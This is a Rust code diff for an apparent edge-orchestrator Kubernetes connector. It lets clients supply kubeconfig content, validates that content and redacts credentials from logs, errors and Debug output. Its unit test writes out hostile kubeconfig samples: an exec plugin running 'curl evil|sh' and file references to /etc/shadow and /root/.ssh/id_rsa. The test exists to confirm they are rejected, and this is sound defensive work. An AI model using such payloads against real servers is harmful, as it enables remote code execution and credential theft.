@@ -48,13 +48,92 @@ pub enum Flavour {
     KubeEdge,
 }
 
-/// How the MEAO reaches a cluster.
+/// A kubeconfig's content: credentials, never shown (`Debug` and serialization of sites for
+/// clients leave it out).
+#[derive(Clone, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
+#[serde(transparent)]
+pub struct KubeconfigContent(pub String);
+
+impl std::fmt::Debug for KubeconfigContent {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str("KubeconfigContent(***)")
+    }
+}
+
+/// Largest kubeconfig content accepted.
+pub const MAX_KUBECONFIG_BYTES: usize = 256 << 10;
+
+/// Checks a kubeconfig given by a client (not by the operator's configuration): a valid
+/// kubeconfig of at most [`MAX_KUBECONFIG_BYTES`] whose clusters and users carry their
+/// credentials inline. File references (`certificate-authority`, `client-certificate`,
+/// `client-key`, `tokenFile`) would read the server's files and `exec` or `auth-provider`
+/// plugins would run commands on it, so they are refused. Errors never quote the content.
+pub fn check_client_kubeconfig(content: &str) -> Result<(), String> {
+    if content.len() > MAX_KUBECONFIG_BYTES {
+        return Err(format!(
+            "kubeconfigContent is larger than {MAX_KUBECONFIG_BYTES} bytes"
+        ));
+    }
+    let config = parse_kubeconfig(content)?;
+    for cluster in config.clusters.iter().filter_map(|c| c.cluster.as_ref()) {
+        if cluster.certificate_authority.is_some() {
+            return Err(
+                "kubeconfigContent: clusters give certificate-authority-data, not a file".into(),
+            );
+        }
+    }
+    for user in config
+        .auth_infos
+        .iter()
+        .filter_map(|a| a.auth_info.as_ref())
+    {
+        if user.client_certificate.is_some()
+            || user.client_key.is_some()
+            || user.token_file.is_some()
+        {
+            return Err("kubeconfigContent: users give their credentials inline (client-certificate-data, client-key-data or token), not files".into());
+        }
+        if user.exec.is_some() || user.auth_provider.is_some() {
+            return Err("kubeconfigContent: exec and auth-provider plugins are not allowed".into());
+        }
+    }
+    Ok(())
+}
+
+/// Parses kubeconfig text; the error names the place, never the content.
+fn parse_kubeconfig(content: &str) -> Result<Kubeconfig, String> {
+    Kubeconfig::from_yaml(content).map_err(|e| {
+        let mut source: Option<&(dyn std::error::Error + 'static)> = Some(&e);
+        while let Some(err) = source {
+            if let Some(location) = err
+                .downcast_ref::<serde_yaml::Error>()
+                .and_then(serde_yaml::Error::location)
+            {
+                return format!(
+                    "kubeconfigContent is not a valid kubeconfig (near line {}, column {})",
+                    location.line(),
+                    location.column()
+                );
+            }
+            source = err.source();
+        }
+        "kubeconfigContent is not a valid kubeconfig".to_owned()
+    })
+}
+
+/// How the MEAO reaches a cluster: a kubeconfig file of the operator's configuration, or a
+/// kubeconfig's content (given through the inventory API).
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, utoipa::ToSchema)]
 #[serde(rename_all = "camelCase", deny_unknown_fields)]
 pub struct ClusterConnection {
-    /// Kubeconfig file.
-    #[schema(value_type = String)]
-    pub kubeconfig: PathBuf,
+    /// Kubeconfig file (operator configuration only).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    #[schema(value_type = Option<String>)]
+    pub kubeconfig: Option<PathBuf>,
+    /// Kubeconfig content, with inline credentials (write-only).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    #[schema(value_type = Option<String>, write_only)]
+    pub kubeconfig_content: Option<KubeconfigContent>,
     /// Context in the kubeconfig (its current context when absent).
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub context: Option<String>,
@@ -432,16 +511,29 @@ impl KubeVim {
     async fn connected(&self) -> Result<&Connected, VimError> {
         self.connected
             .get_or_try_init(|| async {
-                let path = &self.connection.kubeconfig;
-                let kubeconfig = Kubeconfig::read_from(path)
-                    .map_err(|e| VimError::Rejected(format!("{}: {e}", path.display())))?;
+                // what went wrong with a kubeconfig is logged; the site's error says only that
+                let kubeconfig = match (&self.connection.kubeconfig, &self.connection.kubeconfig_content) {
+                    (_, Some(content)) => parse_kubeconfig(&content.0).map_err(VimError::Rejected)?,
+                    (Some(path), None) => Kubeconfig::read_from(path).map_err(|e| {
+                        tracing::warn!(kubeconfig = %path.display(), error = %e, "unusable kubeconfig file");
+                        VimError::Rejected("the configured kubeconfig file cannot be read".into())
+                    })?,
+                    (None, None) => {
+                        return Err(VimError::Rejected("the site has no kubeconfig".into()));
+                    }
+                };
                 let options = KubeConfigOptions {
                     context: self.connection.context.clone(),
                     ..KubeConfigOptions::default()
                 };
                 let mut config = kube::Config::from_custom_kubeconfig(kubeconfig, &options)
                     .await
-                    .map_err(|e| VimError::Rejected(format!("{}: {e}", path.display())))?;
+                    .map_err(|e| {
+                        tracing::warn!(error = %e, "kubeconfig unusable");
+                        VimError::Rejected(
+                            "the kubeconfig has no usable context, cluster or user".into(),
+                        )
+                    })?;
                 config.connect_timeout = Some(Duration::from_secs(5));
                 config.read_timeout = Some(Duration::from_secs(60));
                 config.default_namespace = self.connection.namespace.clone();
@@ -456,7 +548,7 @@ impl KubeVim {
                         detect_flavour(&nodes.items)
                     }
                 };
-                tracing::info!(kubeconfig = %path.display(), ?flavour, "connected to cluster");
+                tracing::info!(namespace = %self.connection.namespace, ?flavour, "connected to cluster");
                 Ok(Connected { client, flavour })
             })
             .await
@@ -882,6 +974,60 @@ impl Vim for KubeVim {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    fn kubeconfig(cluster: &str, user: &str) -> String {
+        format!(
+            "apiVersion: v1\nkind: Config\ncurrent-context: c\n\
+             clusters: [{{name: k, cluster: {{server: \"https://10.0.0.1:6443\", {cluster}}}}}]\n\
+             users: [{{name: u, user: {{{user}}}}}]\n\
+             contexts: [{{name: c, context: {{cluster: k, user: u}}}}]\n"
+        )
+    }
+
+    #[test]
+    fn client_kubeconfigs_carry_their_credentials_inline() {
+        let inline = kubeconfig("certificate-authority-data: QUJD", "token: t0k3n");
+        assert_eq!(check_client_kubeconfig(&inline), Ok(()));
+        for (bad, why) in [
+            (
+                kubeconfig("certificate-authority: /etc/shadow", "token: t"),
+                "certificate-authority-data",
+            ),
+            (
+                kubeconfig(
+                    "insecure-skip-tls-verify: true",
+                    "tokenFile: /var/run/secrets/x",
+                ),
+                "inline",
+            ),
+            (
+                kubeconfig(
+                    "insecure-skip-tls-verify: true",
+                    "client-key: /root/.ssh/id_rsa",
+                ),
+                "inline",
+            ),
+            (
+                kubeconfig(
+                    "insecure-skip-tls-verify: true",
+                    "exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, args: [-c, 'curl evil|sh']}",
+                ),
+                "plugins",
+            ),
+        ] {
+            let e = check_client_kubeconfig(&bad).unwrap_err();
+            assert!(e.contains(why), "{why}: {e}");
+        }
+        let leaky = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin";
+        let e = check_client_kubeconfig(leaky).unwrap_err();
+        assert!(
+            e.starts_with("kubeconfigContent is not a valid kubeconfig") && !e.contains("root"),
+            "{e}"
+        );
+        assert!(check_client_kubeconfig(&"x".repeat(MAX_KUBECONFIG_BYTES + 1)).is_err());
+        let shown = format!("{:?}", KubeconfigContent(inline));
+        assert!(!shown.contains("t0k3n"));
+    }
 
     #[test]
     fn quantities() {
